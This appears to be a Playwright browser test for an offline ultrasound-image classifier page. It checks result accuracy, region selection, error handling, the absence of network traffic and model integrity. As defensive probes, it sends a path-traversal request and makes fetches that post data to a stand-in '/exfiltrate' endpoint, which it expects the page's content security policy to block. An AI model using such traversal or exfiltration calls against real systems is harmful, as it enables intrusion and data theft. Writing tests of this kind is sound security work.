// test_browser.cjs - the page in a real browser (Debian's chromium, headless, driven by
// playwright-core) against the server `make serve` runs (tools/serve.mjs, on a free port).
//
// Checks: the page loads the default model of the manifest; a real ultrasound image opened
// through the file input shows the native CLI's probabilities to the displayed precision
// (one decimal of a percent); a region drawn with the mouse is the one the page reports
// (data-roi) and gives the CLI's --roi answer; after the page and the model have loaded, no
// request of any kind is made while images are opened (recorded in the browser, workers
// included, and in the server's own log); a corrupt file shows an error and the next good
// file still classifies; a model whose bytes do not match the manifest's SHA-256 is refused.
// Saves build/screenshot.png.
'use strict';
const fs = require('fs');
const path = require('path');
const { execFileSync } = require('child_process');
const { ROOT, check, runMain } = require('./testlib.cjs');
const { startServer, get, launch, compareShown, shownRows } = require('./browserlib.cjs');
const { buildAll, testModel, writeManifest, testImages, cli } = require('./test_wasm_node.cjs');

// A weights folder for the page: the shipped one when it exists, else one made here around
// the generated test model, its manifest written by tools/manifest.py. `tamper` adds a second
// model, a copy of the file altered after the manifest was written (what an altered file looks
// like to the page: the manifest's hash is that of the original).
function weightsDir(model, tamper) {
  if (model.shipped && !tamper) return path.join(ROOT, 'weights');
  const dir = path.join(ROOT, 'build', tamper ? 'test-weights-tampered' : 'test-weights');
  fs.rmSync(dir, { recursive: true, force: true });
  fs.mkdirSync(dir, { recursive: true });
  const file = path.basename(model.file);
  const id = file.replace(/\.csasn$/, '');
  fs.copyFileSync(model.file, path.join(dir, file));
  fs.writeFileSync(path.join(dir, `${id}.md`), `# ${id}\n\nModel used by tests/test_browser.cjs.\n`);
  const files = [file], titles = { [id]: id };
  if (tamper) {
    fs.copyFileSync(model.file, path.join(dir, `${id}-tampered.csasn`));
    files.push(`${id}-tampered.csasn`);
    titles[`${id}-tampered`] = `${id} (altered copy)`;
  }
  writeManifest(dir, { files, default: id, titles });
  if (tamper) {
    const f = path.join(dir, `${id}-tampered.csasn`), b = fs.readFileSync(f);
    b[b.length - 1] ^= 0x01; // one bit of the last weight
    fs.writeFileSync(f, b);
  }
  return dir;
}

async function main() {
  buildAll();
  const model = await testModel();
  console.log(`# model: ${path.relative(ROOT, model.file)}${model.shipped ? ' (shipped)' : ' (generated)'}`);
  const images = testImages();
  const ddti = images.find((p) => p.includes('/ddti/'));
  const busi = images.find((p) => p.includes('/busi/'));

  const srv = await startServer(weightsDir(model, false));
  const tampered = await startServer(weightsDir(model, true));
  let browser;
  try {
    // Server headers: MIME types, the privacy policy and cross-origin isolation.
    const root = await get(srv.url);
    const wasm = await get(new URL('wasm/csasn.wasm', srv.url));
    const csp = root.headers['content-security-policy'] || '';
    check('server: page is html', root.status === 200 && /text\/html/.test(root.headers['content-type']), root.headers['content-type']);
    check('server: wasm is application/wasm', wasm.status === 200 && wasm.headers['content-type'] === 'application/wasm', wasm.headers['content-type']);
    check('server: CSP allows only this origin', /default-src 'self'/.test(csp) && /connect-src 'self'(;|$)/.test(csp) && !/\*|https?:/.test(csp), csp);
    check('server: cross-origin isolated', root.headers['cross-origin-opener-policy'] === 'same-origin' && root.headers['cross-origin-embedder-policy'] === 'require-corp');
    const trav = await get(new URL('wasm/..%2f..%2fMakefile', srv.url));
    check('server: no path traversal', trav.status === 404, trav.status);
    const nLogBefore = srv.log.length;

    browser = await launch();
    const ctx = browser.ctx;
    const requests = [];
    const seen = new Set();
    const record = (req) => { if (!seen.has(req)) { seen.add(req); requests.push(req.url()); } };
    ctx.on('request', record);
    const consoleErrors = [];
    const page = ctx.pages()[0] || await ctx.newPage();
    page.on('request', record);
    page.on('worker', (w) => { w.on('console', (m) => { if (m.type() === 'error') consoleErrors.push(m.text()); }); });
    page.on('console', (m) => { if (m.type() === 'error') consoleErrors.push(m.text()); });
    page.on('pageerror', (e) => consoleErrors.push(String(e)));

    const t0 = Date.now();
    await page.goto(srv.url);
    const clf = page.locator('csasn-classifier');
    await page.waitForFunction(() => {
      const s = document.querySelector('csasn-classifier')?.getAttribute('data-state');
      return s === 'ready' || s === 'model-error' || s === 'error';
    }, null, { timeout: 60000 });
    const state = await clf.getAttribute('data-state');
    check('page loads the default model', state === 'ready', `state ${state}: ${await page.locator('[data-testid=model-error]').textContent()}`);
    console.log(`# page load to model ready: ${Date.now() - t0} ms`);
    // The streamed download drove the progress bar to the end, and it is gone once loaded.
    const prog = await page.$eval('[data-testid=model-progress]', (e) => ({ value: e.value, hidden: !e.offsetParent }));
    check('download progress reached 100% and was hidden', prog.value === 1 && prog.hidden, JSON.stringify(prog));
    check('research-use note visible', await page.locator('[data-testid=research-note]').isVisible() && /not a diagnosis/i.test(await page.locator('[data-testid=research-note]').textContent()));
    check('privacy statement visible', await page.locator('[data-testid=privacy-note]').isVisible() && /never leaves/i.test(await page.locator('[data-testid=privacy-note]').textContent()));
    const options = await page.locator('[data-testid=model-select] option').count();
    check('model selector lists the manifest', options >= 1, options);
    check('model card link', /\.md$/.test((await page.locator('[data-testid=model-card]').getAttribute('href')) || ''));

    // The page and the model are loaded: from here on nothing may touch the network.
    await page.waitForTimeout(300);
    const nReqLoaded = requests.length;
    const nLogLoaded = srv.log.length;

    const seqOf = async () => Number((await clf.getAttribute('data-result-seq')) || 0);
    const waitResult = async (prev) => {
      await page.waitForFunction((p) => {
        const e = document.querySelector('csasn-classifier');
        return Number(e.getAttribute('data-result-seq') || 0) > p && e.getAttribute('data-state') !== 'busy';
      }, prev, { timeout: 30000 });
    };
    const rows = () => shownRows(page);

    // 1. Whole image.
    let seq = await seqOf();
    await page.setInputFiles('[data-testid=file-input]', ddti);
    await waitResult(seq);
    const ref = cli(model.file, ddti, null).json;
    const shown = await rows();
    const bad = compareShown(shown, ref);
    check(`whole image ${path.basename(ddti)}: shown probabilities equal the CLI's`, bad.length === 0, bad.join('; '));
    check('whole image: data-roi says full', (await clf.getAttribute('data-roi')) === 'full');
    if (ref.malignancy !== null) {
      const mt = await page.locator('[data-testid=malignancy-value]').textContent();
      check('malignancy shown equals the CLI', Math.abs(parseFloat(mt) - 100 * ref.malignancy) <= 0.05 + 1e-3, `${mt} vs ${100 * ref.malignancy}`);
    }
    check('inference time shown', /\d+(\.\d)? ms/.test(await page.locator('[data-testid=latency]').textContent()));

    // 2. A region drawn with the mouse.
    await page.locator('[data-testid=roi-canvas]').scrollIntoViewIfNeeded();
    const box = await page.locator('[data-testid=roi-canvas]').boundingBox();
    const [W, H] = (await clf.getAttribute('data-image-size')).split(',').map(Number);
    check('image size reported', W === ref.image_w && H === ref.image_h, `${W}x${H}`);
    // Whole CSS pixels: Chromium reports mouse clientX/Y as integers, so the page sees
    // exactly these points.
    const a = { x: Math.round(box.x + box.width * 0.18), y: Math.round(box.y + box.height * 0.22) };
    const b = { x: Math.round(box.x + box.width * 0.71), y: Math.round(box.y + box.height * 0.83) };
    seq = await seqOf();
    await page.mouse.move(a.x, a.y);
    await page.mouse.down();
    await page.mouse.move((a.x + b.x) / 2, (a.y + b.y) / 2, { steps: 4 });
    await page.mouse.move(b.x, b.y, { steps: 4 });
    await page.mouse.up();
    await waitResult(seq);
    // The page maps pointer -> image pixels linearly over the canvas box and rounds the
    // corners; the same arithmetic here.
    const toImg = (p) => ({ x: ((p.x - box.x) / box.width) * W, y: ((p.y - box.y) / box.height) * H });
    const ia = toImg(a), ib = toImg(b);
    const x0 = Math.round(Math.min(ia.x, ib.x)), x1 = Math.round(Math.max(ia.x, ib.x));
    const y0 = Math.round(Math.min(ia.y, ib.y)), y1 = Math.round(Math.max(ia.y, ib.y));
    const want = { x: x0, y: y0, w: x1 - x0, h: y1 - y0 };
    const got = (await clf.getAttribute('data-roi')) || '';
    const [gx, gy, gw, gh] = got.split(',').map(Number);
    const exact = gx === want.x && gy === want.y && gw === want.w && gh === want.h;
    check('drawn region matches the mouse drag', exact, `page ${got}, drag implies ${JSON.stringify(want)}`);
    const roi = { x: gx, y: gy, w: gw, h: gh };
    const refRoi = cli(model.file, ddti, roi).json;
    const shownRoi = await rows();
    const badRoi = compareShown(shownRoi, refRoi);
    check(`roi ${got}: shown probabilities equal the CLI's --roi`, badRoi.length === 0, badRoi.join('; '));
    const changed = shownRoi.some((r) => shown.find((s) => s.label === r.label).raw !== r.raw);
    check('the region changes the result', changed);
    check('attention legend shown', await page.locator('.cz-legend').isVisible());
    await page.screenshot({ path: path.join(ROOT, 'build/screenshot.png'), fullPage: true });

    // Timing of the worker (engine only, warm), for the notes.
    const ms = await page.evaluate(async () => { await window.csasnBench.run(3); return window.csasnBench.run(15); });
    ms.sort((p, q) => p - q);
    console.log(`# chromium worker latency (${path.basename(model.file)}): median ${ms[7].toFixed(2)} ms over 15`);

    // 3. Keyboard reset (Escape on the image) brings back the whole-image answer.
    seq = await seqOf();
    await page.locator('[data-testid=roi-canvas]').focus();
    await page.keyboard.press('Escape');
    await waitResult(seq);
    check('escape resets the region', (await clf.getAttribute('data-roi')) === 'full' && compareShown(await rows(), ref).length === 0);

    // 4. A corrupt file: readable error, no stale result, and the page keeps working.
    const corrupt = fs.readFileSync(busi).subarray(0, 300);
    await page.setInputFiles('[data-testid=file-input]', { name: 'corrupt-scan.png', mimeType: 'image/png', buffer: corrupt });
    await page.waitForSelector('[data-testid=error]:not([hidden])', { timeout: 30000 });
    const errText = await page.locator('[data-testid=error]').textContent();
    check('corrupt file shows a readable error', /corrupt-scan\.png/.test(errText) && errText.length > 30, errText);
    check('no result shown for the corrupt file', (await page.locator('[data-testid=prob-row]').count()) === 0);
    seq = await seqOf();
    await page.setInputFiles('[data-testid=file-input]', busi);
    await waitResult(seq);
    const refB = cli(model.file, busi, null).json;
    const badB = compareShown(await rows(), refB);
    check(`good file after the corrupt one classifies (${path.basename(busi)})`, badB.length === 0, badB.join('; '));
    check('error cleared', await page.locator('[data-testid=error]').isHidden());

    // 5. Drag-and-drop of a PGM and paste of a JPEG (made here from real images with PIL;
    //    the browser cannot show PGM: the picture is the engine's own preview).
    const conv = path.join(ROOT, 'build/test-model');
    fs.mkdirSync(conv, { recursive: true });
    const pgm = path.join(conv, 'ddti-gray.pgm'), jpg = path.join(conv, 'busi.jpg');
    execFileSync('/usr/bin/python3', ['-c', 'import sys; from PIL import Image; Image.open(sys.argv[1]).convert("L").save(sys.argv[2]); Image.open(sys.argv[3]).convert("RGB").save(sys.argv[4], quality=92)',
      images[1], pgm, images.filter((p) => p.includes('/busi/'))[1], jpg]);
    const deliver = async (file, how) => {
      const prev = await seqOf();
      await page.evaluate(async ({ b64, name, type, how }) => {
        const bytes = Uint8Array.from(atob(b64), (c) => c.charCodeAt(0));
        const dt = new DataTransfer();
        dt.items.add(new File([bytes], name, { type }));
        if (how === 'drop') {
          document.querySelector('csasn-classifier').shadowRoot.querySelector('[data-testid=dropzone]').dispatchEvent(new DragEvent('drop', { dataTransfer: dt, bubbles: true, cancelable: true }));
        } else {
          document.dispatchEvent(new ClipboardEvent('paste', { clipboardData: dt, bubbles: true, cancelable: true }));
        }
      }, { b64: fs.readFileSync(file).toString('base64'), name: path.basename(file), type: file.endsWith('.jpg') ? 'image/jpeg' : 'image/x-portable-graymap', how });
      await waitResult(prev);
      const bad = compareShown(await rows(), cli(model.file, file, null).json);
      const drawn = await page.evaluate(() => {
        const c = document.querySelector('csasn-classifier').shadowRoot.querySelector('[data-testid=image-canvas]');
        const d = c.getContext('2d').getImageData(0, 0, c.width, c.height).data;
        let s = 0;
        for (let i = 0; i < d.length; i += 4) s += d[i];
        return s / (d.length / 4);
      });
      return { bad, drawn };
    };
    const dropped = await deliver(pgm, 'drop');
    check('PGM opened by drag-and-drop: probabilities equal the CLI\'s', dropped.bad.length === 0, dropped.bad.join('; '));
    check('PGM preview drawn', dropped.drawn > 5, `mean red ${dropped.drawn}`);
    const pasted = await deliver(jpg, 'paste');
    check('JPEG opened by paste: probabilities equal the CLI\'s', pasted.bad.length === 0, pasted.bad.join('; '));
    check('JPEG preview drawn', pasted.drawn > 5, `mean red ${pasted.drawn}`);

    // 5b. The hostile corpus (tests/hostile) on the page: each file to reject shows its own error
    //     naming the file with the engine's words and no probability; each unusual valid image
    //     shows the CLI's probabilities.
    const hdir = path.join(ROOT, 'tests/hostile');
    if (fs.existsSync(path.join(hdir, 'corpus.json'))) {
      const corpus = JSON.parse(fs.readFileSync(path.join(hdir, 'corpus.json'), 'utf8'));
      const badRej = [], badVal = [];
      let nRej = 0, nVal = 0;
      for (const e of corpus.images || []) {
        const file = path.join(hdir, e.file);
        const name = path.basename(file);
        const prev = await seqOf();
        await page.setInputFiles('[data-testid=file-input]', file);
        if (e.kind === 'reject') {
          nRej++;
          await page.waitForFunction((n) => {
            const er = document.querySelector('csasn-classifier').shadowRoot.querySelector('[data-testid=error]');
            return !er.hidden && er.textContent.includes(`"${n}"`);
          }, name, { timeout: 30000 }).catch(() => {});
          const text = ((await page.locator('[data-testid=error]').textContent()) || '').toLowerCase();
          const words = (e.expect || []).map((w) => w.toLowerCase());
          const rowsN = await page.locator('[data-testid=prob-row]').count();
          if (!text.includes(`"${name.toLowerCase()}"`) || rowsN !== 0 || (words.length && !words.some((w) => text.includes(w)))) badRej.push(`${e.file}: "${text}" rows ${rowsN}`);
        } else {
          nVal++;
          let bad;
          try {
            await waitResult(prev);
            bad = compareShown(await rows(), cli(model.file, file, null).json);
          } catch (err) {
            bad = [String(err.message).split('\n')[0]];
          }
          if (bad.length) badVal.push(`${e.file}: ${bad.join('; ')}`);
        }
      }
      check(`hostile on the page: ${nRej} files rejected with a readable error and no result`, nRej > 0 && badRej.length === 0, badRej.join(' | '));
      check(`hostile on the page: ${nVal} unusual valid images show the CLI's probabilities`, nVal > 0 && badVal.length === 0, badVal.join(' | '));
    }

    // 5c. Extreme shapes and 50-megapixel scans (written by `make_corpus.py --large
    //     build/hostile`, not committed; checked when present).
    const largeIdx = path.join(ROOT, 'build/hostile/large.json');
    if (fs.existsSync(largeIdx)) {
      const bad = [];
      const large = JSON.parse(fs.readFileSync(largeIdx, 'utf8'));
      const engineMemory = async () => page.evaluate(() => window.csasnBench.lastResult.engineMemoryBytes);
      let peak = 0;
      for (const e of large) {
        const file = path.join(ROOT, 'build/hostile', e.file);
        const prev = await seqOf();
        await page.setInputFiles('[data-testid=file-input]', file);
        try {
          await waitResult(prev);
          peak = Math.max(peak, await engineMemory());
          const size = await clf.getAttribute('data-image-size');
          const b2 = compareShown(await rows(), cli(model.file, file, null).json);
          if (size !== `${e.w},${e.h}` || b2.length) bad.push(`${e.file}: size ${size}, ${b2.join('; ')}`);
        } catch (err) {
          bad.push(`${e.file}: ${String(err.message).split('\n')[0]} ${await page.locator('[data-testid=error]').textContent()}`);
        }
      }
      check(`${large.length} extreme-shape and 50 MP images classify on the page like the CLI`, bad.length === 0, bad.join(' | '));
      // WebAssembly memory never shrinks: the 50 MP PNG takes the engine to ~240 MB, past the
      // worker's recycle bound (192 MiB, shell/worker.js). Only a replaced engine can be under
      // the bound afterwards (the 50 MP JPEG after it needs ~173 MB), and the image after
      // that must still get the CLI's answer.
      const prev = await seqOf();
      await page.setInputFiles('[data-testid=file-input]', busi);
      await waitResult(prev);
      const after = await engineMemory(), bound = 192 * 2 ** 20, MB = (b) => (b / 2 ** 20).toFixed(0);
      const badAfter = compareShown(await rows(), cli(model.file, busi, null).json);
      check(`engine recycled after the 50 MP scans (peak ${MB(peak)} MB, next image ${MB(after)} MB, bound ${MB(bound)} MB)`,
        peak > bound && after < bound && badAfter.length === 0, `peak ${peak}, after ${after}; ${badAfter.join('; ')}`);
    } else console.log('# build/hostile/large.json absent: large-image page check skipped');

    // 6. No request after load, in the browser (page and worker) and at the server.
    await page.waitForTimeout(300);
    const late = requests.slice(nReqLoaded);
    check('no browser request while opening images', late.length === 0, late.join(', '));
    const lateLog = srv.log.slice(nLogLoaded);
    check('no server request while opening images', lateLog.length === 0, lateLog.join(', '));
    // The recorder must see what the worker fetches (the wasm and the model), or its
    // silence above would prove nothing about the worker. The page is cross-origin isolated,
    // so the worker picks a threaded build: csasn-relaxed-mt.wasm where Chromium runs relaxed
    // SIMD, csasn-mt.wasm otherwise (the single-thread ones if threads cannot start).
    const loaded = requests.slice(0, nReqLoaded);
    check('the recorder sees the worker\'s requests', loaded.some((u) => /\/wasm\/csasn(-relaxed)?(-mt)?\.wasm$/.test(u)) && loaded.some((u) => /\.csasn(\?|$)/.test(u)), loaded.join(', '));
    check('the server log sees the load', nLogLoaded - nLogBefore >= 5, `${nLogLoaded - nLogBefore} requests`);
    check('no console errors (CSP violations included)', consoleErrors.length === 0, consoleErrors.join(' | '));

    // 6b. The policy itself: a fetch to another origin from the page and from the worker, and
    //     an image from elsewhere, are refused by the browser (securitypolicyviolation) before
    //     any connection. Nothing listens at the target: a refusal by the network would look
    //     different (no violation event).
    const blocked = await page.evaluate(async () => {
      const seen = [];
      document.addEventListener('securitypolicyviolation', (e) => seen.push(e.effectiveDirective || e.violatedDirective));
      let fetchErr = null;
      try { await fetch('http://127.0.0.2:9/exfiltrate', { method: 'POST', body: 'image' }); } catch (e) { fetchErr = String(e); }
      const img = new Image();
      await new Promise((r) => { img.onerror = r; img.onload = r; img.src = 'http://127.0.0.2:9/pixel.png'; });
      await new Promise((r) => setTimeout(r, 200));
      return { fetchErr, seen };
    });
    check('CSP blocks a fetch to another origin from the page', !!blocked.fetchErr && blocked.seen.includes('connect-src'), JSON.stringify(blocked));
    check('CSP blocks an image from another origin', blocked.seen.includes('img-src'), JSON.stringify(blocked));
    const workers = page.workers();
    let wBlocked = null;
    if (workers.length) {
      wBlocked = await workers[0].evaluate(async () => {
        const seen = [];
        self.addEventListener('securitypolicyviolation', (e) => seen.push(e.effectiveDirective || e.violatedDirective));
        let err = null;
        try { await fetch('http://127.0.0.2:9/exfiltrate'); } catch (e) { err = String(e); }
        await new Promise((r) => setTimeout(r, 200));
        return { err, seen };
      });
    }
    check('CSP blocks a fetch to another origin from the worker', wBlocked && wBlocked.err && wBlocked.seen.includes('connect-src'), JSON.stringify(wBlocked));

    // 7. A model whose bytes do not match the manifest's SHA-256 is refused, nothing stale
    //    stays on screen, and picking a good model again brings the page back.
    const p2 = await ctx.newPage();
    const c2 = p2.locator('csasn-classifier');
    const settled = () => p2.waitForFunction(() => {
      const s = document.querySelector('csasn-classifier')?.getAttribute('data-state');
      return s === 'ready' || s === 'model-error' || s === 'error';
    }, null, { timeout: 60000 });
    await p2.goto(tampered.url);
    await settled();
    await p2.setInputFiles('[data-testid=file-input]', ddti);
    try {
      await p2.waitForFunction(() => document.querySelector('csasn-classifier').hasAttribute('data-result-seq'), null, { timeout: 60000 });
    } catch (e) {
      const st = await p2.evaluate(() => {
        const c = document.querySelector('csasn-classifier'), q = (t) => c.shadowRoot.querySelector(`[data-testid=${t}]`).textContent;
        return `state ${c.getAttribute('data-state')}, error "${q('error')}", model error "${q('model-error')}", status "${q('status')}"`;
      });
      throw new Error(`second page: no result for ${path.basename(ddti)} (${st})`);
    }
    const id = path.basename(model.file).replace(/\.csasn$/, '');
    await p2.selectOption('[data-testid=model-select]', `${id}-tampered`);
    await p2.waitForFunction(() => document.querySelector('csasn-classifier').getAttribute('data-state') === 'model-error', null, { timeout: 60000 });
    const e2 = (await p2.locator('[data-testid=model-error]').textContent()) || '';
    check('tampered model refused with a clear message', /integrity check failed/i.test(e2) && /SHA-256/.test(e2), e2);
    check('no result shown under the refused model', (await p2.locator('[data-testid=prob-row]').count()) === 0);
    const seq2 = Number(await c2.getAttribute('data-result-seq') || 0);
    await p2.selectOption('[data-testid=model-select]', id);
    await p2.waitForFunction((p) => Number(document.querySelector('csasn-classifier').getAttribute('data-result-seq') || 0) > p, seq2, { timeout: 60000 });
    const back = compareShown(await shownRows(p2), ref);
    check('switching back to the good model re-classifies the open image', back.length === 0 && await p2.locator('[data-testid=model-error]').isHidden(), back.join('; '));
    await p2.close();
  } finally {
    if (browser) await browser.close();
    srv.proc.kill('SIGTERM');
    tampered.proc.kill('SIGTERM');
  }
}

runMain('test_browser', main);
